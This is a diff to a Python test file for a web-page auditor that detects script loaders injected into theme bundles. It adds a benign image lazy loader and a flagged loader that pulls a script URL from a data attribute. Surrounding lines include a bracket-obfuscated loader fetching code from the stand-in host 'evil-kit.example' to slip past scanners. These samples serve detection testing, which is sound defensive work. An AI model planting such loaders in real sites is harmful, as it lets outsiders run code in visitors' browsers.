@@ -343,8 +343,16 @@ def _theme_page(bundle: str) -> str:
     # names in brackets, as kits write them past a scanner looking for `.createElement(`
     ("var d=document,s=d['createElement']('script');s['src']=['https:','','evil-kit.example',"
      "'x.js'].join('/');d['head']['appendChild'](s);", [("obfuscated-script", "medium")]),
+    # an image lazy loader: each image's address from its own data attribute
+    ("var imgs=[].slice.call(document.querySelectorAll('[data-src]'));imgs.forEach(function"
+     "(img){img.src=img.getAttribute('data-src');img.removeAttribute('data-src')});"
+     "var f=document.querySelector('.owl img');if(f){f.src=f.dataset.src}", []),
+    # the same move into a script the code creates loads code: a finding still
+    ("var d=document,s=d.createElement('script');s.src=d.body.getAttribute('data-u');"
+     "d.head.appendChild(s);", [("obfuscated-script", "medium")]),
 ], ids=["easing", "slider", "redirect", "computed loader", "popup", "markup", "loader",
-        "split loader", "split attribute", "split location", "bracketed loader"])
+        "split loader", "split attribute", "split location", "bracketed loader",
+        "lazy loader", "lazy-style loader of a script"])
 def test_a_packed_plugin_in_a_theme_bundle(audit_html: AuditHtml, plugin: str,
                                            expected: list[tuple[str, str]]) -> None:
     """A packed plugin whose code only works on the page's own elements is a theme's, no
